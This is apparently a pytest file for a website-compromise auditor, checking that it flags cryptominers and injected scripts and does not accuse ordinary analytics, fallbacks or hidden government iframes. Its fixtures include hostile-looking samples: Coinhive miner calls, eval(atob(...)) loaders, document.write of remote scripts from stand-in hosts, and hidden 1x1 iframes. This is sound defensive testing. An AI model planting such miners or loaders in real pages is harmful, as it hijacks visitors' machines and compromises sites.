"""Break-ins in the code of a page, and honest code that looks alike."""

from __future__ import annotations

from dataclasses import replace

import pytest
from tests.engines.webaudit.checks.test_compromise import (
    BASE64,
    LONG,
    PACKED,
    PAST,
    judged,
    page,
    script,
)
from tests.engines.webaudit.seeing import NOW, OWN, fetched

from chinar.engines.webaudit import Outcome, Severity


@pytest.mark.parametrize(
    "body",
    [
        '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
        script("var miner=new CoinHive.Anonymous('k');miner.start();"),
        script("new deepMiner.Anonymous('k').start({throttle:0.2})"),
        script("var s=new WebSocket('wss://xmr.pool.example:8181/proxy')"),
        script("EverythingIsLife('wallet','x',70)"),
    ],
)
def test_miner_is_known_by_its_marks(body):
    assert judged("cryptominer", page(LONG + body)).outcome is Outcome.FAILED


@pytest.mark.parametrize(
    "body",
    [
        "<p>Advisory: coinhive.com and CoinHive.Anonymous mine cryptocurrency.</p>",
        script("var s=new WebSocket('wss://chat.example/socket')"),
        '<script type="application/ld+json">{"about":"CoinHive.Anonymous"}</script>',
    ],
)
def test_words_about_miners_are_no_miner(body):
    assert judged("cryptominer", page(LONG + body)).outcome is Outcome.PASSED


@pytest.mark.parametrize(
    "body",
    [
        script(f"eval(atob('{BASE64}'))"),
        script("document.write(unescape('%3Cscript src=https://a.example/x.js%3E%3C/script%3E'))"),
        script("eval(String.fromCharCode(" + ",".join(["104"] * 40) + "))"),
        script("if(ndsw===undefined){var ndsw=true}"),
        '<iframe src="https://a.top/x" width="1" height="1"></iframe>',
        '</body></html><script src="https://jquery-cdn.top/j.js"></script>',
    ],
    ids=["atob", "write", "char-codes", "campaign", "speck", "after-the-end"],
)
def test_injected_code_is_seen(body):
    found = judged("injected_script", page(LONG + body))
    assert found.outcome is Outcome.FAILED
    assert found.evidence


@pytest.mark.parametrize(
    "body",
    [
        script(PACKED),
        script("window.dataLayer=[];function gtag(){dataLayer.push(arguments)}gtag('js',1)"),
        script("(function(s){var a=s.createElement('script');s.head.appendChild(a)})(document)"),
        f'<img src="data:image/png;base64,{BASE64}">',
        script(f"var icon='data:image/png;base64,{BASE64}'; img.src=icon;"),
        script(f"var font=atob('{BASE64}');"),
        '<iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0"></iframe>',
        '<script src="https://widgets.example/w.js"></script>',
        script("document.write(unescape('%3Cscript src=//www.google-analytics.com/ga.js%3E'))"),
    ],
)
def test_usual_code_is_not_accused(body):
    assert judged("injected_script", page(LONG + body), past=PAST).outcome is Outcome.PASSED


def test_new_script_host_with_bad_signs_is_seen_only_against_the_past():
    body = page(LONG + '<script src="https://stat-metrics.top/s.js"></script>')
    assert judged("injected_script", body).outcome is Outcome.PASSED
    found = judged("injected_script", body, past=PAST)
    assert (found.facts["confidence"], found.severity) == ("medium", Severity.HIGH)
    assert "cdn.jsdelivr.net" in found.facts["before"]


def test_suspicious_sighting_is_nobody_s_known_page():
    bad = replace(PAST[0], at=NOW, title="Night", suspicions=("compromise.defaced",))
    found = judged("defaced", page("<h1>Hacked by Night</h1>", "Night"), past=(*PAST, bad))
    assert "Department of Practice" in found.facts["before"]


def test_page_that_was_cut_is_not_cleared():
    cut = fetched(page(LONG), complete=False)
    for code in ("defaced", "spam_links", "cryptominer", "injected_script"):
        assert judged(code, cut).outcome is Outcome.CANT_TELL


@pytest.mark.parametrize(
    "body",
    [
        script(
            'window.jQuery || document.write(unescape(\'%3Cscript src="js/jquery-1.8.3.min.js"%3E'
            "%3C/script%3E'))"
        ),
        script(
            "var seal='https:';document.write(unescape(\"%3Cscript src='\" + seal + "
            '"secure.example/seal.js\'%3E%3C/script%3E"))'
        ),
        '<div style="display:none"><iframe src="https://pgportal.gov.in/x"></iframe></div>'
        '<div style="display:none"><iframe src="https://transformingindia.mygov.in"></iframe></div>',
        '<div style="display:none"><iframe src="https://tours.example/a"></iframe>'
        '<iframe src="https://walks.example/b"></iframe></div>',
    ],
    ids=["fallback", "seal", "government", "closed tab"],
)
def test_honest_old_code_is_not_accused(body):
    assert judged("injected_script", page(LONG + body)).outcome is Outcome.PASSED


def test_office_of_minerals_mines_no_coins():
    body = "<h1>Geology and Minerals</h1>" + script("open('wss://chat.example');throttle(f)")
    assert judged("cryptominer", page(LONG + body)).outcome is Outcome.PASSED


@pytest.mark.parametrize(
    "body",
    [
        '<a href="https://dlslot.vendor.co.in/">Book Slot Online</a>',
        '<div style="display:none"><a href="/services/book-slot-online">Book slot online</a></div>',
        "".join(f'<a href="/book/{n}">Book LL slot online</a>' for n in range(3)),
    ],
)
def test_slot_that_is_booked_is_no_gambling(body):
    assert judged("spam_links", page(LONG + body)).outcome is Outcome.PASSED


@pytest.mark.parametrize("host", ["localhost", "10.132.1.5", "example.com", "old.health.example"])
def test_single_left_over_in_a_site_map_is_no_break_in(host):
    places = [f"https://{OWN}/{n}" for n in range(50)] + [f"http://{host}/a"]
    text = "".join(f"<url><loc>{place}</loc></url>" for place in places)
    found = judged("sitemap_spam", page(LONG), files={"/sitemap.xml": f"<urlset>{text}</urlset>"})
    assert found.outcome is Outcome.PASSED
